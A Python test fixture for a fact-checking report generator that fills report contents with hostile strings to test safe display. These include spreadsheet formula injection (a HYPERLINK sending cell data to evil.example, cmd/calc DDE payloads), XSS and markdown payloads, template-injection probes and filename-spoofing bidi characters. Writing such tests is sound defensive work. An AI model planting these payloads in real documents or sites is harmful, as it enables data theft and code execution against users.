"""Texts that a report must show and never obey, and contents in which they stand everywhere."""

from dataclasses import replace
from decimal import Decimal

from factcheck.records import ProblemKind, ReadProblem
from factcheck.records.fact import Copy, FactLabel, Origin
from factcheck.records.ledger import LedgerEntry, LedgerKind
from factcheck.records.verdict import Label, Reason
from factcheck.report.contents import ReportContents
from tests.report.contents_makers import document, fact, figure, small_contents, verdict, with_decision

FORMULAS = (
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "=1+1",
    "+cmd|'/C calc'!A0",
    "-2+3+cmd|'/C calc'!A0",
    "@SUM(1+9)*cmd",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "＝1+1",
    "a;=1+1;b",
    "'=1+1",
)
MARKUP = (
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<!-- --><style>*{display:none}</style>",
    "]]><b>&amp;&#60;",
    "![picture](http://evil.example/x.png)",
    "[link](javascript:alert(1))",
    "[1]: http://evil.example",
    "`code` ~~~ ```",
    "| a | b |",
    "# heading",
    "- item",
    "1. item",
    "> quoted",
    "***bold*** _it_ ~~no~~",
    "https://evil.example www.evil.example someone@evil.example @everyone #1",
    "$\\alpha$ and $$x$$",
    "{{7*7}} {% raw %} ${7*7} {0} %s",
    "_x0041_ _x0000_",
    "\"quotes\" 'and' \\backslash\\",
)
CHARACTERS = (
    "nul \x00 and \x01 and \x08",
    "escape \x1b[31mred\x1b[0m \x9b31m",
    "tab \t feed \x0b \x0c return \r\n next",
    "delete \x7f and next line \x85",
    "right \u202egpj.exe\u202c left \u2066x\u2069 mark \u200f",
    "lines \u2028 and \u2029",
    "half \ud83d of a pair \udc00",
    "none \ufffe \uffff \ufdd0 \U0001ffff",
    "joined 👩‍👩‍👧 e\u0301 \u200b \ufeff",
    "long " + "word " * 20_000,
)
HOSTILE = (*FORMULAS, *MARKUP, *CHARACTERS)


def hostile_contents() -> ReportContents:
    """Every hostile text as title, names, sentence, figure and remark, in documents of all kinds."""
    base = small_contents(title=HOSTILE[0] + MARKUP[0], run="".join(text[:60] for text in HOSTILE))
    documents, claims, verdicts, facts, problems, copies = {}, {}, {}, [], [], []
    ledgers = {}
    media = ("text/plain", "text/markdown", "text/html", "application/pdf")
    for number, text in enumerate(HOSTILE):
        name = f"{text[:80]} {number}.txt"
        other = f"other/{number}/../{text[:40]}.md"
        sentence = f"{text} cost {text[:50]} in all {text}"
        surface = sentence[len(text) + 6 :][: len(text[:50])]
        pair = []
        for path, publisher in ((name, text[:200]), (other, None)):
            made = document(
                path, media[number % len(media)], ["First.", sentence], publisher=publisher, author=text[:200],
                title=text[:200], notes=(text[:100],), encoding=None,
            )  # fmt: skip
            documents[path] = made
            place = made.text.index(sentence) + len(text) + 6
            claim = figure(made, sentence, surface, Decimal(number + len(pair)), unit="USD").model_copy(
                update={
                    "start": place,
                    "end": place + len(surface),
                    "counted": text[:50],
                    "subject": text[:200],
                    "measure": text[:200],
                    "attribution": text[:100],
                    "period": text[:20],
                }
            )
            claims[claim.id] = claim
            pair.append(claim)
            ledgers[path] = (
                LedgerEntry(
                    doc=path, start=0, end=5, surface=text[:50], kind=LedgerKind.OTHER, reason=text[:50]
                ),
            )
        one = verdict(*pair, Label.CONFLICTING, Reason.VALUE)
        verdicts[one.id] = one
        label = (FactLabel.CONFLICTING, FactLabel.REVISED, FactLabel.COPIES_DIFFER)[number % 3]
        facts.append(
            fact(
                label,
                Reason.VALUE,
                pair,
                [one],
                title=text[:300],
                cause=text[:300],
                consensus=(pair[0].id,),
                outliers=(pair[1].id,),
                origins=tuple(
                    Origin(name=text[:50], documents=(claim.doc,), detail=text[:50]) for claim in pair
                ),
            )
        )
        problems.append(
            ReadProblem(path=text[:80], kind=ProblemKind.DAMAGED, message=text[:100], hint=text[:100])
        )
        copies.append(Copy(doc=name, original=other, share=0.9, detail=text[:100]))
    comparison = replace(
        base.comparison,
        documents={**base.comparison.documents, **documents},
        claims={**base.comparison.claims, **claims},
        verdicts={**base.comparison.verdicts, **verdicts},
        facts=(*facts, *base.comparison.facts),
        problems=tuple(problems),
        copies=tuple(copies),
    )
    findings = tuple(
        one.model_copy(update={"working": text[:300], "stated_surface": text[:50], "unit": text[:10]})
        for text in HOSTILE
        for one in base.arithmetic
    )
    contents = replace(base, comparison=comparison, arithmetic=findings, ledgers={**base.ledgers, **ledgers})
    for place, text in enumerate(HOSTILE):
        contents = with_decision(contents, note=text[:200], place=place)
    return contents
